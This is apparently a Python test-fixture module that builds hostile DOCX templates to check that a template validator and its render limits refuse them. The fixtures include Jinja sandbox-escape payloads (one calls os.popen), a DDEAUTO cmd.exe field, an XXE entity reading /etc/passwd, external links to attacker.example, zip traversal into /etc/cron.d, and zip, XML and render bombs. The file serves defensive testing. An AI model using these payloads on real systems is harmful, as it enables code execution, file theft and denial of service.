"""Hostile Word templates, built in code: each is refused by the template check with its
code (:data:`CORPUS`), or stopped by the render limits (:data:`RENDER_BOMBS`).

Every file is a small, otherwise valid package (:func:`package`) with one thing wrong, so
a case fails for its own reason and no other.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOC_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

GOOD_BODY = ("Nomor: {{ doc.number }}", "{{ study.goals.title }}",
             "{{ signer.jabatan_caps }}", "{{ signer.name }}", "NIP {{ signer.nip }}")
"""Paragraphs of a template every check accepts (numbered, with a signature block)."""


def paragraph(text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def document_xml(body: str, extra_ns: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}" '
            f'xmlns:v="urn:schemas-microsoft-com:vml" '
            f'xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {extra_ns}>'
            f'<w:body>{body}<w:sectPr/></w:body></w:document>')


def package(paragraphs: tuple[str, ...] | list[str] = GOOD_BODY, *, body: str | None = None,
            rels: str = "", parts: dict[str, bytes | str] | None = None,
            types: str = "", main_type: str = DOC_CT,
            document: str | None = None) -> bytes:
    """A minimal DOCX: `paragraphs` (or raw `body` XML) as its body, extra relationships of
    the document (`rels`), extra `parts`, extra content types (`types`)."""
    if body is None:
        body = "".join(paragraph(p) for p in paragraphs)
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
            f'{types}</Types>'),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" '
            'Target="word/document.xml"/></Relationships>'),
        "word/document.xml": document or document_xml(body),
        "word/_rels/document.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships">{rels}</Relationships>'),
    }
    files.update(parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return out.getvalue()


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def field_runs(instr: str) -> str:
    """A complex field whose code is `instr`, cut into two runs as Word often does."""
    half = len(instr) // 2
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instr[:half]}</w:instrText></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instr[half:]}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares `width` × `height` pixels and holds one row of them."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\0" * (width // 8 + 2))) + chunk(b"IEND", b""))


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return out.getvalue()


def _with_entry(name: str, data: bytes) -> bytes:
    base = zipfile.ZipFile(io.BytesIO(package()))
    return _zip([(i.filename, base.read(i)) for i in base.infolist()] + [(name, data)])


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">'
              for i in range(1, 10))
    + f']><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
      '</w:body></w:document>')
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
    '</w:body></w:document>')


@dataclass(frozen=True)
class Case:
    """A hostile template: how to build it, the code that refuses it, and whether the
    file is unreadable as a whole (the CLI's exit 2)."""

    name: str
    build: Callable[[], bytes]
    code: str
    unreadable: bool = False
    filename: str = "templat.docx"


def _p(*texts: str) -> Callable[[], bytes]:
    return lambda: package(GOOD_BODY + texts)


def _body(xml: str, rels: str = "", **kw: object) -> Callable[[], bytes]:
    return lambda: package(body="".join(paragraph(p) for p in GOOD_BODY) + xml, rels=rels,
                           **kw)  # type: ignore[arg-type]


CORPUS: list[Case] = [
    # Escapes from the sandbox
    Case("dunder_class", _p("{{ study.__class__ }}"), "template_private_name"),
    Case("mro_subclasses", _p("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
         "template_private_name"),
    Case("cycler_globals", _p("{{ cycler.__init__.__globals__.os.popen('id') }}"),
         "template_private_name"),
    Case("joiner", _p("{% set j = joiner(',') %}{{ j() }}"), "template_unsafe_name"),
    Case("lipsum", _p("{{ lipsum(100000) }}"), "template_unsafe_name"),
    Case("namespace_internals", _p("{{ namespace.__init__.__globals__ }}"),
         "template_private_name"),
    Case("namespace_private_attr", _p("{% set ns = namespace() %}{% set ns._x = 1 %}"),
         "template_private_name"),
    Case("getitem_dunder", _p("{{ study['__class__'] }}"), "template_private_name"),
    Case("format_method", _p("{{ '{0.__class__}'.format(study) }}"), "template_unsafe_method"),
    Case("format_map", _p("{{ '{x}'.format_map(study) }}"), "template_unsafe_method"),
    Case("format_filter", _p("{{ '%999999999s'|format(1) }}"), "template_unsafe_filter"),
    Case("percent_format", _p("{{ '%999999999d' % 1 }}"), "template_format_string"),
    Case("attr_filter", _p("{{ study|attr('__class__') }}"), "template_unsafe_filter"),
    Case("safe_filter", _p("{{ study.goals.title|safe }}"), "template_unsafe_filter"),
    Case("autoescape_off", _p("{% autoescape false %}{{ study.goals.title }}"
                              "{% endautoescape %}"), "template_autoescape"),
    Case("include", _p("{% include 'other.xml' %}"), "template_include"),
    Case("too_many_tags", lambda: package(("{{ doc.number }}",) * 3001),
         "template_too_many_tags"),
    Case("openers_never_closed", _p("{{p aaaa " * 100_000), "template_tag_unclosed"),
    Case("range_huge", _p("{% for i in range(10**9) %}x{% endfor %}"), "render_items_limit"),
    # Macros, ActiveX, OLE
    Case("docm_content_type", lambda: package(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "template_macro"),
    Case("vba_project", lambda: package(
        rels=rel("rId9", "vbaProject", "vbaProject.bin"),
        parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really VBA"},
        types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
         "template_macro"),
    Case("docm_name", lambda: package(), "template_macro", filename="surat.docm"),
    Case("activex", lambda: package(
        rels=rel("rId9", "control", "activeX/activeX1.xml"),
        parts={"word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com'
                                            '/office/2006/activeX" ax:classid="{1}"/>'}),
         "template_activex"),
    Case("ole_object", _body(
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/>'
        '</w:object></w:r></w:p>', rel("rId9", "oleObject", "embeddings/oleObject1.bin"),
        parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "template_ole"),
    Case("altchunk", _body('<w:altChunk r:id="rId9"/>', rel("rId9", "aFChunk", "chunk.mht"),
                           parts={"word/chunk.mht": b"MIME-Version: 1.0"}),
         "template_altchunk"),
    # What reaches outside the file
    Case("external_image_http", _body(
        '<w:p><w:r><w:drawing><a:blip r:link="rId9"/></w:drawing></w:r></w:p>',
        rel("rId9", "image", "http://attacker.example/x.png", external=True)),
         "template_external"),
    Case("external_image_file", _body(
        '<w:p><w:r><w:drawing><a:blip r:embed="rId9"/></w:drawing></w:r></w:p>',
        rel("rId9", "image", "file:///etc/passwd", external=True)), "template_external"),
    Case("external_frame_unc", lambda: package(
        rels=rel("rId9", "frame", "\\\\attacker.example\\share\\x.docx", external=True)),
         "template_external"),
    Case("vml_href", _body('<w:p><w:r><w:pict><v:shape><v:imagedata '
                           'o:href="http://attacker.example/x.png"/></v:shape></w:pict>'
                           '</w:r></w:p>'), "template_external"),
    Case("includepicture", _body(field_runs('INCLUDEPICTURE "http://attacker.example/x.png" '
                                            '\\d')), "template_field"),
    Case("includetext_simple", _body(
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.docx&quot; ">'
        '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'), "template_field"),
    Case("ddeauto", _body(field_runs('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"')),
         "template_field"),
    Case("link_field", _body(field_runs('LINK Excel.Sheet.12 "\\\\\\\\host\\\\x.xlsx" ""')),
         "template_field"),
    Case("field_word_cut", _body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>LIN'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
         "template_field_unknown"),
    Case("tag_in_field", _body(field_runs("{{ study.goals.title }} \\* MERGEFORMAT")),
         "template_tag_in_field"),
    # Bombs and broken files
    Case("billion_laughs", lambda: package(document=BILLION_LAUGHS), "template_xml_doctype",
         unreadable=True),
    Case("external_entity", lambda: package(document=EXTERNAL_ENTITY), "template_xml_doctype",
         unreadable=True),
    Case("deep_nesting", lambda: package(
        body="<w:p>" + "<w:r>" * 5000 + "</w:r>" * 5000 + "</w:p>"), "template_xml_deep",
         unreadable=True),
    Case("too_large", lambda: package(parts={"word/media/big.bin":
                                             random.Random(15).randbytes(11 * 2**20)}),
         "template_too_large", unreadable=True),
    Case("zip_bomb_ratio", lambda: _with_entry("word/filler.xml", b"<a>" + b" " * 2_000_000
                                               + b"</a>"), "template_zip_bomb", unreadable=True),
    Case("zip_traversal", lambda: _with_entry("../../etc/cron.d/x", b"x"), "template_zip_name",
         unreadable=True),
    Case("zip_absolute", lambda: _with_entry("/etc/passwd", b"x"), "template_zip_name",
         unreadable=True),
    Case("zip_entries", lambda: _zip([(f"f{i}.txt", b"") for i in range(1001)]),
         "template_zip_entries", unreadable=True),
    Case("not_a_zip", lambda: b"%PDF-1.7 this is not a Word file", "template_file_unreadable",
         unreadable=True),
    Case("old_doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
         "template_file_unreadable", unreadable=True),
    Case("spreadsheet", lambda: package(
        main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
         "template_file_unreadable", unreadable=True),
    # Pictures
    Case("image_pixels", lambda: package(parts={"word/media/image1.png": png_header(20000,
                                                                                     20000)}),
         "template_image"),
    Case("image_svg", lambda: package(
        parts={"word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image '
                                        'href="http://attacker.example/x.png"/></svg>'},
        types='<Default Extension="svg" ContentType="image/svg+xml"/>'), "template_image_svg"),
]
"""Templates the check refuses; each case's code is among the report's errors."""


@dataclass(frozen=True)
class Bomb:
    """A template that passes the static checks but would run away when filled."""

    name: str
    paragraphs: tuple[str, ...]
    code: str


RENDER_BOMBS: list[Bomb] = [
    Bomb("nested_loops", ("{% for i in range(100000) %}{% for j in range(100000) %}{{ j }}"
                          "{% endfor %}{% endfor %}",), "render_steps_limit"),
    Bomb("string_times", ("{{ 'x' * 10**9 }}",), "render_value_limit"),
    Bomb("string_doubling", ("{% set ns = namespace(s='x') %}{% for i in range(64) %}"
                             "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",),
         "render_value_limit"),
    Bomb("center_width", ("{{ 'x'|center(10**9) }}",), "render_value_limit"),
    Bomb("str_method_width", ("{{ study.goals.title.ljust(10**9) }}",), "render_value_limit"),
    Bomb("join_repeated", ("{% set s = 'x' * 4000000 %}{{ ([s] * 1000)|join }}",),
         "render_value_limit"),
    Bomb("replace_inflate", ("{% set s = 'a' * 100000 %}{{ s|replace('a', 'b' * 100000) }}",),
         "render_value_limit"),
    Bomb("power", ("{{ 10 ** (10 ** 10) }}",), "render_number_limit"),
    Bomb("macro_fanout", ("{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}"
                          "{% endmacro %}{{ m(40) }}",), "render_steps_limit"),
    Bomb("output_flood", ("{% set s = 'x' * 4000000 %}{% for i in range(100000) %}{{ s }}"
                          "{% endfor %}",), "render_output_limit"),
    Bomb("list_growth", ("{% set ns = namespace(l=[]) %}{% for i in range(100000) %}"
                         "{% set ns.l = ns.l + ['x' * 1000 ~ i] %}{% endfor %}",),
         "render_output_limit"),
    Bomb("list_times", ("{{ (range(100000)|list) * 100000 }}",), "render_value_limit"),
    Bomb("map_then_in", ("{{ 'z' in (range(100000)|map('center', 4000000)) }}",),
         "render_output_limit"),
    Bomb("batch_fill", ("{{ range(3)|batch(10 ** 9, 'x')|list }}",), "render_items_limit"),
    Bomb("slice_many", ("{{ range(3)|slice(10 ** 8)|list|length }}",), "render_steps_limit"),
    Bomb("format_dynamic", ("{{ study.goals.title['for' ~ 'mat']('{0:>999999999}') }}",),
         "template_unsafe_method"),
]
"""Templates stopped by the render limits; ``code`` is the limit that stops each."""
